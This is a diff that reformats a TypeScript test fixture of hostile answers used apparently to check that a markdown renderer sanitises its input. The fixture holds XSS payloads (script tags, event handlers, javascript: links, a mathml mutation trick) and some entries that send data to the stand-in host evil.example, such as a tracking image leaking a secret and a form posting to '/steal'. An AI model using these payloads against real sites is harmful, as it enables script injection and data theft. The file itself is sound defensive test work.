@@ -18,7 +18,11 @@ const PWN = "window.__pwned='x'";
 
 export const HOSTILE_ANSWERS: HostileAnswer[] = [
   { name: 'script tag', content: `Before.\n\n<script>${PWN};alert(1)</script>\n\nAfter.`, shows: '<script>' },
-  { name: 'script tag with remote src', content: '<script src="https://evil.example/x.js"></script> loaded?', shows: 'loaded?' },
+  {
+    name: 'script tag with remote src',
+    content: '<script src="https://evil.example/x.js"></script> loaded?',
+    shows: 'loaded?',
+  },
   { name: 'img with onerror', content: `Look: <img src=x onerror="${PWN}">`, shows: 'onerror' },
   { name: 'svg with onload', content: `<svg onload="${PWN}"><circle r="10"/></svg> svg done`, shows: 'svg done' },
   {
@@ -26,7 +30,11 @@ export const HOSTILE_ANSWERS: HostileAnswer[] = [
     content: `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe> frame done`,
     shows: 'frame done',
   },
-  { name: 'iframe to a remote page', content: '<iframe src="https://evil.example/frame"></iframe> remote frame', shows: 'remote frame' },
+  {
+    name: 'iframe to a remote page',
+    content: '<iframe src="https://evil.example/frame"></iframe> remote frame',
+    shows: 'remote frame',
+  },
   { name: 'javascript: link', content: `[click me](javascript:${PWN})`, shows: 'click me' },
   { name: 'javascript: link calling alert', content: '[x](javascript:alert(1)) and more', shows: 'and more' },
   { name: 'javascript: link in mixed case', content: '[mixed](JaVaScRiPt:alert(1))', shows: 'mixed' },
@@ -39,29 +47,71 @@ export const HOSTILE_ANSWERS: HostileAnswer[] = [
   { name: 'data: link', content: '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', shows: 'data' },
   { name: 'vbscript: link', content: '[vb](vbscript:msgbox(1))', shows: 'vb' },
   { name: 'file: link', content: '[passwd](file:///etc/passwd)', shows: 'passwd' },
-  { name: 'remote markdown image', content: 'Tracker: ![pixel](https://evil.example/pixel.png?leak=secret)', shows: 'Tracker:' },
+  {
+    name: 'remote markdown image',
+    content: 'Tracker: ![pixel](https://evil.example/pixel.png?leak=secret)',
+    shows: 'Tracker:',
+  },
   { name: 'remote reference image', content: '![logo][l]\n\n[l]: http://evil.example/logo.png', shows: 'logo' },
   { name: 'javascript: image', content: '![js image](javascript:alert(1))', shows: 'js image' },
-  { name: 'data: svg image', content: '![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)', shows: 'svg image' },
-  { name: 'style with a remote url()', content: '<style>body{background:url(https://evil.example/style.png)}</style> styled?', shows: 'styled?' },
-  { name: 'meta refresh', content: '<meta http-equiv="refresh" content="0;url=https://evil.example/"> refresh?', shows: 'refresh?' },
+  {
+    name: 'data: svg image',
+    content: '![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+    shows: 'svg image',
+  },
+  {
+    name: 'style with a remote url()',
+    content: '<style>body{background:url(https://evil.example/style.png)}</style> styled?',
+    shows: 'styled?',
+  },
+  {
+    name: 'meta refresh',
+    content: '<meta http-equiv="refresh" content="0;url=https://evil.example/"> refresh?',
+    shows: 'refresh?',
+  },
   { name: 'base href', content: '<base href="https://evil.example/"> [relative](/path) base?', shows: 'base?' },
-  { name: 'stylesheet link', content: '<link rel="stylesheet" href="https://evil.example/x.css"> sheet?', shows: 'sheet?' },
+  {
+    name: 'stylesheet link',
+    content: '<link rel="stylesheet" href="https://evil.example/x.css"> sheet?',
+    shows: 'sheet?',
+  },
   {
     name: 'form posting elsewhere',
-    content: '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form> form?',
+    content:
+      '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form> form?',
     shows: 'form?',
   },
-  { name: 'object and embed', content: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf"> plugins?', shows: 'plugins?' },
-  { name: 'video and audio with onerror', content: `<video src=x onerror="${PWN}"></video><audio src=x onerror=alert(1)> media?`, shows: 'media?' },
-  { name: 'details with ontoggle', content: `<details open ontoggle="${PWN}"><summary>s</summary>x</details> toggle?`, shows: 'toggle?' },
-  { name: 'raw anchor with javascript: href', content: '<a href="javascript:alert(1)">raw anchor</a>', shows: 'raw anchor' },
+  {
+    name: 'object and embed',
+    content: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf"> plugins?',
+    shows: 'plugins?',
+  },
+  {
+    name: 'video and audio with onerror',
+    content: `<video src=x onerror="${PWN}"></video><audio src=x onerror=alert(1)> media?`,
+    shows: 'media?',
+  },
+  {
+    name: 'details with ontoggle',
+    content: `<details open ontoggle="${PWN}"><summary>s</summary>x</details> toggle?`,
+    shows: 'toggle?',
+  },
+  {
+    name: 'raw anchor with javascript: href',
+    content: '<a href="javascript:alert(1)">raw anchor</a>',
+    shows: 'raw anchor',
+  },
   {
     name: 'html in a code block',
-    content: '```html\n<a href="javascript:alert(1)">x</a>\n<img src="https://evil.example/code.png" onerror="alert(1)">\n<script>alert(1)</script>\n```',
+    content:
+      '```html\n<a href="javascript:alert(1)">x</a>\n<img src="https://evil.example/code.png" onerror="alert(1)">\n<script>alert(1)</script>\n```',
     shows: '<script>alert(1)</script>',
   },
-  { name: 'html in inline code', content: 'Inline `<img src=x onerror=alert(1)>` code', shows: '<img src=x onerror=alert(1)>' },
+  {
+    name: 'html in inline code',
+    content: 'Inline `<img src=x onerror=alert(1)>` code',
+    shows: '<img src=x onerror=alert(1)>',
+  },
   {
     name: 'code fence info string with markup',
     content: '```ts title="<img/src/onerror=alert(1)>" onload="alert(1)"\nconst a = 1;\n```',
@@ -72,20 +122,37 @@ export const HOSTILE_ANSWERS: HostileAnswer[] = [
     content: `&lt;img src=x onerror="${PWN}"&gt; and &#60;script&#62;alert(1)&#60;/script&#62;`,
     shows: '<img src=x onerror=',
   },
-  { name: 'right-to-left override in link text', content: '[\u202Egpj.exe](javascript:alert(1)) and [safe](https://example.com/\u202Eevil)', shows: 'safe' },
+  {
+    name: 'right-to-left override in link text',
+    content: '[\u202Egpj.exe](javascript:alert(1)) and [safe](https://example.com/\u202Eevil)',
+    shows: 'safe',
+  },
   { name: 'full-width javascript scheme', content: '[wide](ｊａｖａｓｃｒｉｐｔ:alert(1))', shows: 'wide' },
   {
     name: 'raw html inside a table',
     content: `| a | b |\n|---|---|\n| <img src="https://evil.example/t.png" onerror="${PWN}"> | <script>alert(1)</script> |\n| [cell](javascript:alert(1)) | ok cell |`,
     shows: 'ok cell',
   },
-  { name: 'footnote with a javascript: link', content: 'Claim[^1].\n\n[^1]: Source: [trust me](javascript:alert(1))', shows: 'trust me' },
+  {
+    name: 'footnote with a javascript: link',
+    content: 'Claim[^1].\n\n[^1]: Source: [trust me](javascript:alert(1))',
+    shows: 'trust me',
+  },
   { name: 'html comment hiding a script', content: '<!-- <script>alert(1)</script> --> comment?', shows: 'comment?' },
   {
     name: 'mathml mutation trick',
-    content: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> mxss?',
+    content:
+      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> mxss?',
     shows: 'mxss?',
   },
-  { name: 'link title with an event handler', content: '[titled](https://example.com "\\" onmouseover=\\"alert(1)")', shows: 'titled' },
-  { name: 'safe links keep working', content: 'See [the docs](https://example.com/docs), [mail](mailto:dev@example.com) and [top](#top).', shows: 'the docs' },
+  {
+    name: 'link title with an event handler',
+    content: '[titled](https://example.com "\\" onmouseover=\\"alert(1)")',
+    shows: 'titled',
+  },
+  {
+    name: 'safe links keep working',
+    content: 'See [the docs](https://example.com/docs), [mail](mailto:dev@example.com) and [top](#top).',
+    shows: 'the docs',
+  },
 ];
